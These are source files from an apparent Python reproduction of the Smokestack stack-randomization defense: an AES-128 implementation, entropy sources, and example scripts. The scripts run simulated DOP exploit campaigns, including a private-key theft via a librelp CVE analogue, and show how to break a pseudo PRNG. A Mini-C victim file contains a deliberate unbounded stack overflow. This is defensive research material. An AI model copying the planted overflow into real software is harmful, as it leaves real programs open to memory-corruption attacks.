        "e0 32 3a 0a 49 06 24 5c c2 d3 ac 62 91 95 e4 79 "
        "e7 c8 37 6d 8d d5 4e a9 6c 56 f4 ea 65 7a ae 08 "
        "ba 78 25 2e 1c a6 b4 c6 e8 dd 74 1f 4b bd 8b 8a "
        "70 3e b5 66 48 03 f6 0e 61 35 57 b9 86 c1 1d 9e "
        "e1 f8 98 11 69 d9 8e 94 9b 1e 87 e9 ce 55 28 df "
        "8c a1 89 0d bf e6 42 68 41 99 2d 0f b0 54 bb 16"
    ).split()
)

RCON = (0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1B, 0x36)

STANDARD_ROUNDS = 10
BLOCK_SIZE = 16
KEY_SIZE = 16


def _xtime(a: int) -> int:
    """Multiply by x in GF(2^8)."""
    a <<= 1
    if a & 0x100:
        a = (a ^ 0x1B) & 0xFF
    return a


def expand_key(key: bytes, rounds: int = STANDARD_ROUNDS) -> List[bytes]:
    """FIPS-197 key expansion: ``rounds + 1`` round keys of 16 bytes."""
    if len(key) != KEY_SIZE:
        raise ValueError(f"AES-128 key must be {KEY_SIZE} bytes, got {len(key)}")
    if not 1 <= rounds <= STANDARD_ROUNDS:
        raise ValueError(f"rounds must be in 1..{STANDARD_ROUNDS}, got {rounds}")
    words = [key[i : i + 4] for i in range(0, 16, 4)]
    for i in range(4, 4 * (rounds + 1)):
        temp = bytearray(words[i - 1])
        if i % 4 == 0:
            temp = temp[1:] + temp[:1]  # RotWord
            temp = bytearray(SBOX[b] for b in temp)  # SubWord
            temp[0] ^= RCON[(i // 4) - 1]
        words.append(bytes(a ^ b for a, b in zip(words[i - 4], temp)))
    return [b"".join(words[4 * r : 4 * r + 4]) for r in range(rounds + 1)]


# -- T-tables ----------------------------------------------------------------
#
# State is column-major (byte r + 4c is row r, column c); a column packs
# big-endian as (row0 << 24) | (row1 << 16) | (row2 << 8) | row3.  The
# MixColumns matrix column for an input byte in row r gives the packing:
# row-0 inputs contribute (2S, S, S, 3S), row-1 (3S, 2S, S, S), row-2
# (S, 3S, 2S, S), row-3 (S, S, 3S, 2S) — each table is the previous one
# rotated by a byte.

_T0: List[int] = []
_T1: List[int] = []
_T2: List[int] = []
_T3: List[int] = []
for _x in range(256):
    _s = SBOX[_x]
    _s2 = _xtime(_s)
    _s3 = _s2 ^ _s
    _T0.append((_s2 << 24) | (_s << 16) | (_s << 8) | _s3)
    _T1.append((_s3 << 24) | (_s2 << 16) | (_s << 8) | _s)
    _T2.append((_s << 24) | (_s3 << 16) | (_s2 << 8) | _s)
    _T3.append((_s << 24) | (_s << 16) | (_s3 << 8) | _s2)
del _x, _s, _s2, _s3


def _schedule_words(round_keys: List[bytes]) -> List[Tuple[int, ...]]:
    """Round keys as big-endian 32-bit column words for the T-table path."""
    return [
        tuple(
            int.from_bytes(round_key[column : column + 4], "big")
            for column in (0, 4, 8, 12)
        )
        for round_key in round_keys
    ]


#: (key, rounds) -> (round_keys, schedule_words).  Bounded: CTR reseeds
#: draw fresh random keys, so a pathological run could otherwise grow the
#: cache without limit.
_SCHEDULE_CACHE: Dict[Tuple[bytes, int], Tuple[List[bytes], List[Tuple[int, ...]]]] = {}
_SCHEDULE_CACHE_LIMIT = 1024


def cached_schedule(
    key: bytes, rounds: int = STANDARD_ROUNDS
) -> Tuple[List[bytes], List[Tuple[int, ...]]]:
    """The expanded schedule for ``(key, rounds)``, expanding at most once."""
    cache_key = (bytes(key), rounds)
    entry = _SCHEDULE_CACHE.get(cache_key)
    if entry is None:
        if len(_SCHEDULE_CACHE) >= _SCHEDULE_CACHE_LIMIT:
            _SCHEDULE_CACHE.clear()
        round_keys = expand_key(key, rounds)
        entry = (round_keys, _schedule_words(round_keys))
        _SCHEDULE_CACHE[cache_key] = entry
    return entry


def encrypt_block_fast(block: bytes, schedule_words: List[Tuple[int, ...]]) -> bytes:
    """T-table encryption under a :func:`_schedule_words` schedule.

    Bit-for-bit equivalent to :func:`encrypt_block`; the test suite
    checks the two against each other across round counts and keys.
    """
    if len(block) != BLOCK_SIZE:
        raise ValueError(f"block must be {BLOCK_SIZE} bytes, got {len(block)}")
    rounds = len(schedule_words) - 1
    k = schedule_words[0]
    s0 = int.from_bytes(block[0:4], "big") ^ k[0]
    s1 = int.from_bytes(block[4:8], "big") ^ k[1]
    s2 = int.from_bytes(block[8:12], "big") ^ k[2]
    s3 = int.from_bytes(block[12:16], "big") ^ k[3]
    t0_, t1_, t2_, t3_ = _T0, _T1, _T2, _T3
    for round_index in range(1, rounds):
        k = schedule_words[round_index]
        # ShiftRows: row r of column c reads column (c + r) mod 4.
        t0 = t0_[s0 >> 24] ^ t1_[(s1 >> 16) & 0xFF] ^ t2_[(s2 >> 8) & 0xFF] ^ t3_[s3 & 0xFF] ^ k[0]
        t1 = t0_[s1 >> 24] ^ t1_[(s2 >> 16) & 0xFF] ^ t2_[(s3 >> 8) & 0xFF] ^ t3_[s0 & 0xFF] ^ k[1]
        t2 = t0_[s2 >> 24] ^ t1_[(s3 >> 16) & 0xFF] ^ t2_[(s0 >> 8) & 0xFF] ^ t3_[s1 & 0xFF] ^ k[2]
        t3 = t0_[s3 >> 24] ^ t1_[(s0 >> 16) & 0xFF] ^ t2_[(s1 >> 8) & 0xFF] ^ t3_[s2 & 0xFF] ^ k[3]
        s0, s1, s2, s3 = t0, t1, t2, t3
    k = schedule_words[rounds]
    sbox = SBOX
    out0 = (
        (sbox[s0 >> 24] << 24)
        | (sbox[(s1 >> 16) & 0xFF] << 16)
        | (sbox[(s2 >> 8) & 0xFF] << 8)
        | sbox[s3 & 0xFF]
    ) ^ k[0]
    out1 = (
        (sbox[s1 >> 24] << 24)
        | (sbox[(s2 >> 16) & 0xFF] << 16)
        | (sbox[(s3 >> 8) & 0xFF] << 8)
        | sbox[s0 & 0xFF]
    ) ^ k[1]
    out2 = (
        (sbox[s2 >> 24] << 24)
        | (sbox[(s3 >> 16) & 0xFF] << 16)
        | (sbox[(s0 >> 8) & 0xFF] << 8)
        | sbox[s1 & 0xFF]
    ) ^ k[2]
    out3 = (
        (sbox[s3 >> 24] << 24)
        | (sbox[(s0 >> 16) & 0xFF] << 16)
        | (sbox[(s1 >> 8) & 0xFF] << 8)
        | sbox[s2 & 0xFF]
    ) ^ k[3]
    return (
        out0.to_bytes(4, "big")
        + out1.to_bytes(4, "big")
        + out2.to_bytes(4, "big")
        + out3.to_bytes(4, "big")
    )


def _sub_bytes(state: bytearray) -> None:
    for i in range(16):
        state[i] = SBOX[state[i]]


def _shift_rows(state: bytearray) -> None:
    # State is column-major: byte r + 4c is row r, column c.
    for row in range(1, 4):
        values = [state[row + 4 * col] for col in range(4)]
        values = values[row:] + values[:row]
        for col in range(4):
            state[row + 4 * col] = values[col]


def _mix_columns(state: bytearray) -> None:
    for col in range(4):
        base = 4 * col
        a = state[base : base + 4]
        t = a[0] ^ a[1] ^ a[2] ^ a[3]
        u = a[0]
        state[base + 0] = a[0] ^ t ^ _xtime(a[0] ^ a[1])
        state[base + 1] = a[1] ^ t ^ _xtime(a[1] ^ a[2])
        state[base + 2] = a[2] ^ t ^ _xtime(a[2] ^ a[3])
        state[base + 3] = a[3] ^ t ^ _xtime(a[3] ^ u)


def _add_round_key(state: bytearray, round_key: bytes) -> None:
    for i in range(16):
        state[i] ^= round_key[i]


def encrypt_block(block: bytes, round_keys: List[bytes]) -> bytes:
    """Encrypt one 16-byte block under the expanded key schedule.

    ``len(round_keys) - 1`` determines the number of rounds; the final
    round omits MixColumns per the standard.
    """
    if len(block) != BLOCK_SIZE:
        raise ValueError(f"block must be {BLOCK_SIZE} bytes, got {len(block)}")
    rounds = len(round_keys) - 1
    state = bytearray(block)
    _add_round_key(state, round_keys[0])
    for round_index in range(1, rounds):
        _sub_bytes(state)
        _shift_rows(state)
        _mix_columns(state)
        _add_round_key(state, round_keys[round_index])
    _sub_bytes(state)
    _shift_rows(state)
    _add_round_key(state, round_keys[rounds])
    return bytes(state)


class AES128:
    """Convenience wrapper binding a key and a round count.

    Uses the T-table fast path and the module-level schedule cache; the
    byte-level :func:`encrypt_block` remains available as the reference
    via :meth:`encrypt_reference` — the differential fuzzer's AES oracle
    runs the same reseed stream through both and demands bit equality.
    """

    def __init__(self, key: bytes, rounds: int = STANDARD_ROUNDS):
        self.rounds = rounds
        self._round_keys, self._schedule_words = cached_schedule(key, rounds)

    def encrypt(self, block: bytes) -> bytes:
        return encrypt_block_fast(block, self._schedule_words)

    def encrypt_reference(self, block: bytes) -> bytes:
        """Byte-level FIPS-197 encryption under the same key schedule."""
        return encrypt_block(block, self._round_keys)
