"""True-randomness sources for seeding Smokestack's generators.

The paper seeds its AES-CTR generator from a true random number source
(RDRAND; /dev/random was rejected because it stalls).  The reproduction
models that as an :class:`EntropySource` with two implementations:

* :class:`SystemEntropy` — ``os.urandom``, the closest host analogue of a
  hardware TRNG; used by default.
* :class:`DeterministicEntropy` — a seeded SHA-256 counter stream, used by
  tests and benchmarks that need reproducible runs.  Note this is only
  deterministic for the *experimenter*; within the threat model it stands
  in for a true random source whose outputs the attacker cannot observe,
  because its state never lives in guest-addressable memory.
"""

from __future__ import annotations

import hashlib
import os


class EntropySource:
    """Interface: produce cryptographic-quality random bytes."""

    def read(self, count: int) -> bytes:
        raise NotImplementedError

    def read_u64(self) -> int:
        return int.from_bytes(self.read(8), "little")


class SystemEntropy(EntropySource):
    """os.urandom-backed entropy (the RDRAND stand-in)."""

    def read(self, count: int) -> bytes:
        return os.urandom(count)


class DeterministicEntropy(EntropySource):
    """Reproducible entropy for experiments: SHA-256 in counter mode."""

    def __init__(self, seed: int = 0):
        self._seed = seed
        self._counter = 0
        self._buffer = b""

    def read(self, count: int) -> bytes:
        while len(self._buffer) < count:
            block = hashlib.sha256(
                self._seed.to_bytes(8, "little", signed=False)
                + self._counter.to_bytes(8, "little")
            ).digest()
            self._counter += 1
            self._buffer += block
        out, self._buffer = self._buffer[:count], self._buffer[count:]
        return out
