"""Exception hierarchy shared across the Smokestack reproduction.

Every error raised by the library derives from :class:`ReproError`, so
applications embedding the toolchain can catch one base class.  The hierarchy
mirrors the pipeline stages: front-end (lexing/parsing/semantic analysis),
IR construction and verification, lowering, virtual-machine execution, and
the Smokestack hardening passes themselves.
"""

from __future__ import annotations

from typing import Optional


class SourceLocation:
    """A position inside a Mini-C source text.

    Lines and columns are 1-based, matching how editors and compiler
    diagnostics conventionally report positions.
    """

    __slots__ = ("filename", "line", "column")

    def __init__(self, filename: str = "<input>", line: int = 1, column: int = 1):
        self.filename = filename
        self.line = line
        self.column = column

    def __repr__(self) -> str:
        return f"SourceLocation({self.filename!r}, {self.line}, {self.column})"

    def __str__(self) -> str:
        return f"{self.filename}:{self.line}:{self.column}"

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, SourceLocation):
            return NotImplemented
        return (self.filename, self.line, self.column) == (
            other.filename,
            other.line,
            other.column,
        )

    def __hash__(self) -> int:
        return hash((self.filename, self.line, self.column))


class ReproError(Exception):
    """Base class for every error raised by the reproduction library."""


class FrontendError(ReproError):
    """Base class for Mini-C front-end failures, carrying a source location."""

    def __init__(self, message: str, location: Optional[SourceLocation] = None):
        self.location = location
        if location is not None:
            message = f"{location}: {message}"
        super().__init__(message)


class LexError(FrontendError):
    """Raised when the lexer meets a character sequence it cannot tokenize."""


class ParseError(FrontendError):
    """Raised when the parser meets a token sequence that is not Mini-C."""


class SemanticError(FrontendError):
    """Raised by semantic analysis: type errors, undeclared names, etc."""


class IRError(ReproError):
    """Raised when IR is constructed or mutated inconsistently."""


class VerifierError(IRError):
    """Raised by the IR verifier when a module violates a structural rule."""


class LoweringError(ReproError):
    """Raised when a well-typed AST cannot be lowered to IR."""


class VMError(ReproError):
    """Base class for virtual machine failures."""


class VMFault(VMError):
    """A memory fault: the simulated process performed an illegal access.

    Faults model what would be a SIGSEGV (or a hardware-detected violation)
    on a real machine.  ``kind`` is a short machine-readable tag such as
    ``"unmapped"``, ``"write-to-readonly"`` or ``"null-deref"``.
    """

    def __init__(self, kind: str, address: int, message: str = ""):
        self.kind = kind
        self.address = address
        detail = message or kind
        super().__init__(f"memory fault ({detail}) at address {address:#x}")


class SecurityViolation(VMError):
    """Raised when an inserted Smokestack check detects tampering.

    This models the hardened binary aborting, e.g. because the XOR'd
    function identifier written in the prologue no longer matches at the
    epilogue, or because a stack canary was clobbered.
    """

    def __init__(self, check: str, function: str, message: str = ""):
        self.check = check
        self.function = function
        detail = f" ({message})" if message else ""
        super().__init__(
            f"security check '{check}' failed in function '{function}'{detail}"
        )


class VMTrap(VMError):
    """Raised when the guest program executes an explicit trap/abort."""


class VMLimitExceeded(VMError):
    """Raised when execution exceeds a configured resource limit.

    Limits exist so that attack experiments with corrupted loop counters
    terminate instead of spinning forever; hitting a limit is reported as a
    distinct outcome (neither success nor clean crash).
    """


class AttackError(ReproError):
    """Raised when an attack harness is misconfigured (not attack failure)."""


class BenchmarkError(ReproError):
    """Raised when a benchmark workload or harness is misconfigured."""
