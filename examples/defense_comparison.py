#!/usr/bin/env python3
"""The synthetic penetration matrix: six DOP attacks vs six defenses.

Experiment S2 (§V-C) as a runnable script: direct and indirect overflows
from the stack, data segment and heap — plus a VLA-origin overflow — each
driven by an adaptive attacker that only uses channels the victims offer
(error-report echoes, logged debug pointers, service restarts).

Run:  python examples/defense_comparison.py
"""

from repro.attacks import all_scenarios, format_matrix, run_matrix
from repro.defenses import make_defense

DEFENSES = ("none", "canary", "aslr", "padding", "static-permute", "smokestack")


def main() -> None:
    scenarios = all_scenarios()
    print("scenarios:")
    for scenario in scenarios:
        print(f"  {scenario.name:<24} {scenario.description}")
    print()
    print("running the matrix (6 scenarios x 6 defenses, 6 restarts each)...")
    print()
    grid = run_matrix(
        scenarios,
        [make_defense(name) for name in DEFENSES],
        restarts=6,
        seed=1,
    )
    print(format_matrix(grid))
    print()
    stopped_by = {name: 0 for name in DEFENSES}
    for row in grid.values():
        for name, report in row.items():
            if not report.succeeded:
                stopped_by[name] += 1
    print("attacks stopped per defense:")
    for name in DEFENSES:
        bar = "#" * stopped_by[name]
        print(f"  {name:<16} {stopped_by[name]}/{len(scenarios)}  {bar}")


if __name__ == "__main__":
    main()
