#!/usr/bin/env python3
"""Reproduce every table and figure of the paper in one command.

Writes the artifacts to ``artifacts/`` (text renderings of Table I,
Figure 3, Figure 4, and the three security experiments) and prints a
summary.  This is the script-shaped equivalent of
``pytest benchmarks/ --benchmark-only`` for people who want the artifacts
as files rather than test assertions.

Run:  python examples/reproduce_paper.py  [--fast]
"""

import argparse
import os
import sys
import time

from repro.attacks import (
    all_scenarios,
    format_matrix,
    run_librelp_campaign,
    run_listing1_campaign,
    run_matrix,
    run_proftpd_campaign,
    run_wireshark_campaign,
)
from repro.benchsuite import (
    measure_suite,
    render_figure3,
    render_figure4,
    render_overhead_summary,
    render_table1,
)
from repro.defenses import defense_names, make_defense

DEFENSES = ("none", "canary", "aslr", "padding", "static-permute", "smokestack")


def write_artifact(directory: str, name: str, content: str) -> None:
    path = os.path.join(directory, name)
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(content + "\n")
    print(f"  wrote {path}")


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--fast", action="store_true",
                        help="three workloads instead of the full suite")
    parser.add_argument("--out", default="artifacts")
    args = parser.parse_args()
    os.makedirs(args.out, exist_ok=True)
    started = time.time()

    print("[1/4] Table I — randomness source rates")
    write_artifact(args.out, "table1.txt", render_table1())

    print("[2/4] Figures 3 & 4 — runtime and memory overhead "
          f"({'fast subset' if args.fast else 'full suite'})")
    workloads = (
        ["perlbench", "mcf", "proftpd"] if args.fast else None
    )
    results = measure_suite(workload_names=workloads, scheduling_effects=True)
    write_artifact(args.out, "figure3.txt", render_figure3(results))
    write_artifact(
        args.out, "figure3_summary.txt", render_overhead_summary(results)
    )
    write_artifact(args.out, "figure4.txt", render_figure4(results))

    print("[3/4] S1/S3 — CVE exploit campaigns vs every defense")
    lines = ["case x defense verdict grid", ""]
    cases = {
        "librelp CVE-2018-1000140": run_librelp_campaign,
        "wireshark CVE-2014-2299": run_wireshark_campaign,
        "proftpd CVE-2006-5815": run_proftpd_campaign,
        "listing1 dispatcher": run_listing1_campaign,
    }
    header = f"{'case':<26}" + "".join(f"{d:<16}" for d in DEFENSES)
    lines.append(header)
    for case_name, runner in cases.items():
        row = [f"{case_name:<26}"]
        for defense in DEFENSES:
            report = runner(make_defense(defense), restarts=4, seed=2)
            row.append(f"{report.verdict():<16}")
        lines.append("".join(row))
        print(f"  {lines[-1]}")
    write_artifact(args.out, "security_cves.txt", "\n".join(lines))

    print("[4/4] S2 — synthetic penetration matrix")
    grid = run_matrix(
        all_scenarios(),
        [make_defense(name) for name in DEFENSES],
        restarts=6,
        seed=1,
    )
    matrix_text = format_matrix(grid)
    print(matrix_text)
    write_artifact(args.out, "security_matrix.txt", matrix_text)

    print(f"\ndone in {time.time() - started:.0f}s — artifacts in {args.out}/")
    return 0


if __name__ == "__main__":
    sys.exit(main())
