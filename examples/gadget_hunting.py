#!/usr/bin/env python3
"""Gadget hunting: the static analysis behind the paper's exploits.

§II-C: "Using static analysis, we discovered gadgets for MOV,
DEREFERENCE and STORE operations" in librelp.  This example runs the
reproduction's taint-based gadget finder over the librelp analogue and
the paper's Listing 1, then shows the flip side: hardening does NOT
remove gadgets — it takes away the attacker's ability to aim at their
operands, which the entropy report quantifies.

Run:  python examples/gadget_hunting.py
"""

from repro.analysis import analyze_module, render_entropy_report
from repro.attacks.dop import Listing1DopAttack
from repro.attacks.librelp import LibrelpDopAttack
from repro.core import compile_source, harden_source


def census(title: str, source: str) -> None:
    print(f"--- {title} ---")
    report = analyze_module(compile_source(source))
    print(f"gadgets: {report.kinds()}")
    for gadget in report.gadgets:
        print(f"  [{gadget.kind:<6}] in {gadget.function} ({gadget.block})")
    usable = report.usable_dispatchers()
    print(f"gadget dispatchers ({len(usable)} usable):")
    for dispatcher in usable:
        print(
            f"  loop at {dispatcher.function}:{dispatcher.header} — "
            f"attacker-controlled bound, {dispatcher.corruption_sites} "
            f"corruption site(s), {dispatcher.gadgets_in_body} gadget(s) in body"
        )
    print()


def main() -> None:
    census("paper Listing 1 (the canonical DOP program)",
           Listing1DopAttack.source)
    census("librelp CVE-2018-1000140 analogue", LibrelpDopAttack.source)

    print("--- what hardening changes ---")
    hardened = harden_source(LibrelpDopAttack.source)
    hardened_report = analyze_module(hardened.module)
    print(f"gadget census of the HARDENED module: {hardened_report.kinds()}")
    print("(identical kinds: Smokestack does not remove gadgets, it breaks")
    print(" the attacker's knowledge of where their operands live)")
    print()
    print(render_entropy_report(hardened))


if __name__ == "__main__":
    main()
