#!/usr/bin/env python3
"""Quickstart: compile a C program, harden it with Smokestack, watch the
stack layout change on every call.

Run:  python examples/quickstart.py
"""

from repro import Machine, SmokestackConfig, compile_source, harden_source
from repro.ir import print_function
from repro.rng import DeterministicEntropy

# A little server-ish function: a buffer next to scalars — the classic
# stack shape DOP attacks feed on.  It logs its buffer's address so we
# can watch the randomization with our own eyes.
SOURCE = """
int handle_request(int request_id) {
    long session_flags = 0;
    char buffer[32];
    long bytes_seen = 0;
    buffer[0] = (char)request_id;
    print_int((long)buffer);          /* where did the buffer land? */
    bytes_seen = buffer[0] + request_id;
    return (int)(bytes_seen + session_flags);
}

int main() {
    int total = 0;
    for (int i = 0; i < 5; i++) {
        total += handle_request(i);
    }
    return total & 0xff;
}
"""


def main() -> None:
    print("=== 1. the unprotected baseline ===")
    module = compile_source(SOURCE)
    machine = Machine(module)
    result = machine.run()
    print(f"exit code: {result.exit_code}")
    print(f"buffer address on each of the 5 calls: "
          f"{[hex(a) for a in result.int_outputs]}")
    print("-> identical every call: an attacker needs to learn the layout once.")
    layout = machine.baseline_frame_layout("handle_request")
    print(f"static layout (offsets below frame top): {layout}")

    print()
    print("=== 2. the Smokestack-hardened build ===")
    hardened = harden_source(SOURCE, SmokestackConfig(scheme="aes-10"))
    machine = hardened.make_machine(entropy=DeterministicEntropy(0))
    result = machine.run()
    print(f"exit code: {result.exit_code}  (identical semantics)")
    print(f"buffer address on each of the 5 calls: "
          f"{[hex(a) for a in result.int_outputs]}")
    print("-> a fresh position per invocation: yesterday's recon is useless.")
    print(f"what static analysis sees now: "
          f"{machine.baseline_frame_layout('handle_request') or '(one opaque frame)'}")

    entry = hardened.pbox.entry_for("handle_request")
    print()
    print("=== 3. under the hood ===")
    print(f"P-BOX entry: {entry}")
    print(f"  {entry.table.row_count} precomputed layouts, "
          f"{entry.table.size_bytes():,} read-only bytes, "
          f"unified frame of {entry.total_size} bytes")
    print(f"whole-program P-BOX: {hardened.pbox.stats()}")

    print()
    print("=== 4. the instrumented IR (prologue) ===")
    fn = hardened.module.get_function("handle_request")
    text = print_function(fn)
    prologue = text.split("entry:")[0]
    print(prologue.rstrip())
    print("  ... (original body follows, allocas replaced by frame slices)")


if __name__ == "__main__":
    main()
