#!/usr/bin/env python3
"""Optimizer tour: from -O0 memory traffic to -O2 SSA, and what it means
for Smokestack.

The paper hardens Clang -O2 binaries.  This example shows the
reproduction's own pipeline recovering that shape — mem2reg promoting
scalars into SSA registers with phi nodes — and the consequence for the
defense: fewer permutable slots, a much smaller P-BOX, and functions with
register-only locals skipped entirely.

Run:  python examples/optimizer_tour.py
"""

from repro.analysis import render_entropy_report
from repro.core import SmokestackConfig, compile_source, harden_source
from repro.ir import print_function
from repro.opt import optimize
from repro.vm import Machine

SOURCE = """
int scale(int value, int factor) {
    int doubled = value * 2;
    return doubled * factor;
}

int accumulate(int n) {
    long total = 0;
    char history[32];
    for (int i = 0; i < n; i++) {
        total += scale(i, 3);
        history[i & 31] = (char)total;
    }
    return (int)(total + history[0]);
}

int main() { return accumulate(20) & 0xff; }
"""


def main() -> None:
    print("=== -O0: every local lives in memory ===")
    at_o0 = compile_source(SOURCE)
    result_o0 = Machine(at_o0).run()
    fn = at_o0.get_function("scale")
    print(print_function(fn))
    print(f"executed: {result_o0.steps:,} steps, {result_o0.cycles:,.0f} cycles")

    print()
    print("=== -O2: mem2reg + folding + CFG cleanup ===")
    at_o2 = compile_source(SOURCE)
    stats = optimize(at_o2, level=2)
    result_o2 = Machine(at_o2).run()
    print(print_function(at_o2.get_function("scale")))
    loop_fn = at_o2.get_function("accumulate")
    phi_lines = [
        line for line in print_function(loop_fn).splitlines() if "phi" in line
    ]
    print("loop-carried variables became phis in accumulate():")
    for line in phi_lines:
        print(f" {line}")
    print(f"pass statistics: {stats}")
    print(f"executed: {result_o2.steps:,} steps, {result_o2.cycles:,.0f} cycles "
          f"({100 * (1 - result_o2.steps / result_o0.steps):.0f}% fewer steps, "
          f"same exit code: {result_o2.exit_code == result_o0.exit_code})")

    print()
    print("=== what -O2 means for Smokestack ===")
    hardened_o0 = harden_source(SOURCE, SmokestackConfig(), opt_level=0)
    hardened_o2 = harden_source(SOURCE, SmokestackConfig(), opt_level=2)
    print(f"-O0 P-BOX: {hardened_o0.pbox.stats()}")
    print(f"-O2 P-BOX: {hardened_o2.pbox.stats()}")
    print()
    print("-O0 entropy:")
    print(render_entropy_report(hardened_o0))
    print()
    print("-O2 entropy (scalars promoted; 'scale' has no frame at all):")
    print(render_entropy_report(hardened_o2))


if __name__ == "__main__":
    main()
