#!/usr/bin/env python3
"""The randomness security/performance trade-off (Table I + Figure 3 slice).

Smokestack draws one random number per function invocation; how that
number is produced is the paper's main performance knob:

* ``pseudo``  — memory-resident xorshift: nearly free, trivially broken
  (the state sits in attacker-readable memory);
* ``aes-1``   — AES-CTR with one round: cheap, weakened cipher;
* ``aes-10``  — full AES-128-CTR, key in registers: the recommended point;
* ``rdrand``  — a true-random value per call: strongest, slowest.

Run:  python examples/rng_tradeoffs.py
"""

from repro.benchsuite import measure_workload, render_table1
from repro.core import SmokestackConfig, harden_source
from repro.rng import DeterministicEntropy, PseudoSource, make_source
from repro.rng.sources import PSEUDO_STATE_GLOBAL, SCHEME_NAMES


def main() -> None:
    print(render_table1())
    print()

    print("per-scheme runtime overhead on a call-heavy workload (omnetpp):")
    measurement = measure_workload("omnetpp", scheduling_effects=True)
    for scheme in SCHEME_NAMES:
        overhead = measurement.overhead_pct(scheme)
        bar = "#" * max(0, int(round(overhead)))
        print(f"  {scheme:<8} {overhead:6.1f}%  {bar}")
    print()

    print("why 'pseudo' is unsafe (a 30-second break):")
    hardened = harden_source(
        "void tick() { int x = 0; x = x + 1; }"
        "int main() { for (int i = 0; i < 3; i++) tick(); return 0; }",
        SmokestackConfig(scheme="pseudo"),
    )
    machine = hardened.make_machine(entropy=DeterministicEntropy(0))
    machine.run()
    address = machine.image.address_of_global(PSEUDO_STATE_GLOBAL)
    state = machine.memory.read_int(address, 8, signed=False)
    predicted, _ = PseudoSource.predict_from_state(state)
    print(f"  1. disclose the PRNG state global at {hex(address)}: {state:#018x}")
    print(f"  2. run xorshift64 one step yourself:  {predicted:#018x}")
    print("  3. that IS the next invocation's permutation index — layout known.")
    fresh = hardened.make_machine()
    fresh.memory.write_int(address, state, 8)
    actual = PseudoSource().generate(fresh)
    print(f"  verification against the real generator: {actual:#018x} "
          f"({'MATCH' if actual == predicted else 'mismatch'})")
    print()
    print("aes-10 keeps its key and nonce in registers and reseeds from a")
    print("true-random source: nothing to disclose, ~93 cycles per call.")


if __name__ == "__main__":
    main()
