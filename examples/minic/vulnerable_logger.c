/* A compact DOP-shaped victim for `repro analyze`:
 *
 *   python -m repro analyze examples/minic/vulnerable_logger.c --verbose --crosscheck
 *
 * The frame of format_entry places `level`, `quota` and the attacker's
 * landing pad above `line`, so the unbounded copy is a textbook linear
 * overflow: the analyzer reports the deterministic reach set, the
 * attacker-bounded copy loop (interprocedural taint from main's
 * input_read into the `n` parameter), and the exposure score.
 */

int format_entry(char *msg, int n) {
    long quota;
    int level;
    char line[64];
    int i;
    quota = 4096;
    level = 1;
    i = 0;
    /* No bound against sizeof(line): n is attacker-controlled. */
    while (i < n) {
        line[i] = msg[i];
        i = i + 1;
    }
    line[0] = 35; /* '#' */
    if (level > 0) {
        output_bytes(line, quota);
    }
    return i;
}

int main(void) {
    char packet[128];
    int got;
    got = input_read(packet, 128);
    return format_entry(packet, got);
}
