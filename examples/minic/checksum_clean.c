/* A well-behaved program: every access bounded, every local initialized.
 * `repro analyze` should report no warnings or errors here — it is the
 * negative control for the lint layer and the CI analyze stage.
 */

int checksum(char *data, int n) {
    int sum;
    int i;
    sum = 0;
    for (i = 0; i < n; i = i + 1) {
        sum = sum + data[i];
    }
    return sum;
}

int main(void) {
    char buf[32];
    int got;
    int total;
    got = input_read(buf, 32);
    if (got > 32) {
        got = 32;
    }
    total = checksum(buf, got);
    print_int(total);
    return 0;
}
