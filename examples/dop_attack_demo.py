#!/usr/bin/env python3
"""The paper's librelp DOP exploit, live against every stack defense.

This is experiment S1 (§II-C) as a narrative: a remote attacker abuses
librelp's CVE-2018-1000140 (`snprintf` offset arithmetic) to build a
non-linear write primitive, derandomizes the stack via the server's own
error-report echo, drives the connection loop as a DOP gadget dispatcher
(DEREF, DEREF, DEREF, SEND), and walks a pointer chain to the TLS
private key — all without ever leaving the program's control-flow graph.

Run:  python examples/dop_attack_demo.py
"""

from repro.attacks import PRIVATE_KEY, run_librelp_campaign
from repro.defenses import make_defense

DEFENSES = [
    ("none", "no protection"),
    ("canary", "stack canary (classic stack protector)"),
    ("aslr", "stack-base ASLR (load-time randomization)"),
    ("padding", "random padding at function entry [Forrest et al.]"),
    ("static-permute", "compile-time stack layout permutation"),
    ("smokestack", "Smokestack: per-invocation randomization (the paper)"),
]


def main() -> None:
    print("librelp CVE-2018-1000140 -> DOP private-key exfiltration")
    print(f"target secret: {PRIVATE_KEY.decode()}")
    print()
    print(f"{'defense':<16} {'verdict':<9} attempts-until-success / outcomes")
    print("-" * 72)
    for name, description in DEFENSES:
        report = run_librelp_campaign(make_defense(name), restarts=4, seed=2)
        breakdown = ", ".join(
            f"{k}={v}" for k, v in report.breakdown().items() if v
        )
        first = (
            f"success on attempt {report.first_success + 1}"
            if report.first_success is not None
            else "never"
        )
        print(f"{name:<16} {report.verdict():<9} {first:<24} [{breakdown}]")
        print(f"{'':<16}   ({description})")
    print()
    print("Every scheme that fixes the layout at compile or load time falls")
    print("to a single disclosure; only re-randomizing at every invocation")
    print("leaves the attacker nothing stable to aim at.")


if __name__ == "__main__":
    main()
