"""Packaging for the Smokestack reproduction.

Metadata lives here (rather than a [project] table in pyproject.toml) so
`pip install -e .` works on offline environments without the `wheel`
package: pip then uses the legacy `setup.py develop` editable path.
"""

from setuptools import find_packages, setup

setup(
    name="repro",
    version="1.0.0",
    description=(
        "Smokestack: runtime stack layout randomization against DOP attacks "
        "(CGO 2019 reproduction)"
    ),
    license="MIT",
    python_requires=">=3.9",
    package_dir={"": "src"},
    packages=find_packages(where="src"),
    extras_require={"test": ["pytest", "pytest-benchmark", "hypothesis"]},
)
